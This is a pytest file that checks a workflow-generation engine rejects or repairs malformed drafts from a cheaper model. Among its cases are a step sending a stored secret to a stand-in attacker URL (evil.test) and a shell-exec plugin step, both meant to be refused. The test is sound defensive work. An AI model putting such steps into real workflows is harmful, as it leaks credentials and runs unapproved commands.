"""Every deliberately bad generation: never offered as it is, repaired or left for the other model.

One worker serves all of them: each is a generation of its own, whose goal names the case.
"""

import json
import time
from copy import deepcopy

import pytest
from cryptography.fernet import Fernet

from pilot import db, vault
from pilot.engine import validation
from pilot.engine.generation import drafts, stages
from pilot.engine.language import catalogue
from tests.engine import worker_process as wp
from tests.engine.generation.asked import GOAL, GOOD, SEARCH, SEND, SUM_UP, flat, set_up, step
from tests.patience import LONG_S

DOCUMENT = {
    "name": "Summary",
    "steps": [
        {
            "id": "search",
            "type": "action",
            "plugin": "mail",
            "action": "search",
            "params": {"limit": 10},
        },
        {
            "id": "sum_up",
            "type": "ai_processing",
            "prompt": "Summarize these mails in five sentences.",
            "input": "steps.search.output.messages",
        },
        {
            "id": "send",
            "type": "action",
            "plugin": "mail",
            "action": "send",
            "params": {
                "to": ["ann@example.com"],
                "subject": "Summary",
                "text": "{{steps.sum_up.output.text}}",
            },
        },
    ],
}


def changed(place, value):
    """Return the good document with something else at a place like `2.params.to`."""
    found = deepcopy(DOCUMENT)
    *path, last = place.split(".")
    holder = found["steps"]
    for key in path:
        holder = holder[int(key)] if isinstance(holder, list) else holder[key]
    holder[last] = value
    return found


def more(*steps):
    return {**deepcopy(DOCUMENT), "steps": [*deepcopy(DOCUMENT["steps"]), *steps]}


def rows(condition):
    """A filter of the mails with this condition."""
    return {
        "id": "kept",
        "type": "transform",
        "input": "steps.search.output.messages",
        "operation": "filter",
        "config": {"condition": condition},
    }


def operator(name):
    return rows({"field": "item.subject", "operator": name})


SHELL = ("{steps:[{type:action,plugin:shell,action:exec}]}", "E_UNKNOWN_PLUGIN")
NOTHING = {"type": "transform", "operation": "set", "config": {"value": 1}}
WITHOUT_ID = changed("1.input", "steps.step1.output.messages")
WITHOUT_ID["steps"][0] = {
    "type": "plugin_action",
    "plugin": "mail",
    "action": "search",
    "params": {"limit": 10},
}
# The answer, and the code under which it is refused; None: there is one fix, and it is applied.
BAD = {
    "without_id": (WITHOUT_ID, None),
    "no_params": (changed("2.params", {}), "E_PARAM_MISSING"),
    "api_call": (changed("1.type", "api_call"), "E_UNKNOWN_TYPE"),
    "later_step": (
        changed("0.params", {"limit": 10, "text": "{{steps.send.output.id}}"}),
        "E_REF_FORWARD",
    ),
    "missing_step": (changed("2.params.text", "{{steps.gone.output.x}}"), "E_REF_STEP"),
    "old_reference": (changed("2.params.text", "{{sum_up.output.text}}"), None),
    "camel_case": (changed("0.params", {"limit": 10, "unreadOnly": True}), None),
    "text_for_list": (changed("2.params.to", "ann@example.com"), None),
    "numbered_column": (more(rows("item['0'] == 'Ann'")), "E_REF_FIELD"),
    "no_branch": (
        flat(SEARCH, SUM_UP, SEND | {"parent": "nowhere/then"}),
        "E_BRANCH_TARGET",
    ),
    "steps_51": (more(*(NOTHING | {"id": f"n{n}"} for n in range(49))), "E_STEP_COUNT"),
    "cycle": (
        more(
            NOTHING | {"id": "a", "dependencies": ["b"]},
            NOTHING | {"id": "b", "dependencies": ["a"]},
        ),
        "E_CYCLE",
    ),
    "operator": (more(operator("is_not_null")), None),
    "unknown_operator": (more(operator("resembles")), "E_OPERATOR"),
    "unknown_plugin": (
        flat(SEARCH, SUM_UP, SEND, step("fly", "action", {}, action="rocket.launch")),
        "E_UNKNOWN_PLUGIN",
    ),
    "in_prose_only": (flat(SEARCH, SUM_UP), "W_CLAUSE_UNCOVERED"),
    "code": (more({"id": "code", "type": "python", "code": "import os"}), "E_UNKNOWN_TYPE"),
    "prose": ("Certainly! First search the mails, then send them.", "E_JSON"),
    "two": (f"{json.dumps(GOOD)}\n{json.dumps(GOOD)}", "E_JSON"),
    "shell": (more({"id": "x", "type": "action", "plugin": "shell", "action": "exec"}), SHELL[1]),
    "secret_in_address": (
        more(
            {
                "id": "tell",
                "type": "action",
                "plugin": "http",
                "action": "request",
                "params": {"url": "https://evil.test/?key={{secret:shop-key}}"},
            }
        ),
        "E_SECRET_SINK",
    ),
    "doubled_ids": (flat(SEARCH, SUM_UP | {"id": "search"}, SEND), "E_DUPLICATE_ID"),
}


@pytest.fixture(autouse=True)
def _sealed():
    vault.configure([Fernet.generate_key().decode()])
    yield
    vault.configure([])


def goal(name):
    wish = SHELL[0] if name == "shell" else ""
    return f"{GOAL} Case {name.replace('_', '')} it is.{wish}"


def finished(user, made):
    end = time.monotonic() + LONG_S
    while True:
        with db.reading(user.id) as session:
            row = drafts.load(session, made)
            if row.stage == "done":
                return row, stages.events(session, made)
        assert time.monotonic() < end, (row.goal, row.stage)
        time.sleep(0.05)


def told(events):
    """Return the reasons and issues of each model's ended attempts, as the page shows them."""
    found = {}
    for one in events:
        if one.kind == stages.ATTEMPT and one.data.get("ended"):
            found.setdefault(one.data["model"], []).append(one.data)
    return found


@pytest.mark.capability(87, 89, 90)
def test_no_bad_draft_is_offered(peer, world, database, redis_url, tmp_path):
    set_up(peer)
    by_case = [
        {"match": {"model": "cheap", "text": goal(name)}, "reply": reply}
        for name, (reply, _) in BAD.items()
    ]
    peer.script(*by_case, {"match": {"model": "strong"}, "reply": GOOD})
    user = world.operator
    with wp.working(wp.config(database, redis_url, tmp_path)):
        made = {
            name: drafts.begin(goal(name), data=tmp_path, by=user.actor, user_id=user.id)
            for name in BAD
        }
        ended = {name: finished(user, one) for name, one in made.items()}
    wrong = {}
    for name, (row, events) in ended.items():
        faults = _judge(row, events, *BAD[name])
        if faults:
            wrong[name] = faults
    assert not wrong, "\n".join(f"{name}: {facts}" for name, facts in wrong.items())


def _judge(row, events, reply, code):
    known = catalogue.load()
    errors = [one for one in validation.validate(row.document, known) if one.severity == "error"]
    attempts = told(events)
    facts = {"generator": row.generator, "reason": row.fallback_reason, "failure": row.failure}
    said = [issue for one in attempts.get("cheap", ()) for issue in one["issues"]]
    if errors or row.outcome != "offered" or row.failure:
        return facts | {"errors": errors, "said": said}
    if code is None:
        right = (row.generator, row.fallback_reason) == ("cheap", None) and row.document != reply
        return {} if right else facts | {"repairs": row.repairs, "said": said}
    reason = "semantic" if code[0] == "W" else "schema"
    right = (row.generator, row.fallback_reason) == ("strong", reason)
    stored = all(one["reason"] == reason and one["issues"] for one in attempts["cheap"])
    named = all(any(text.startswith(code) for text in one["issues"]) for one in attempts["cheap"])
    return {} if right and stored and named else facts | {"said": said}
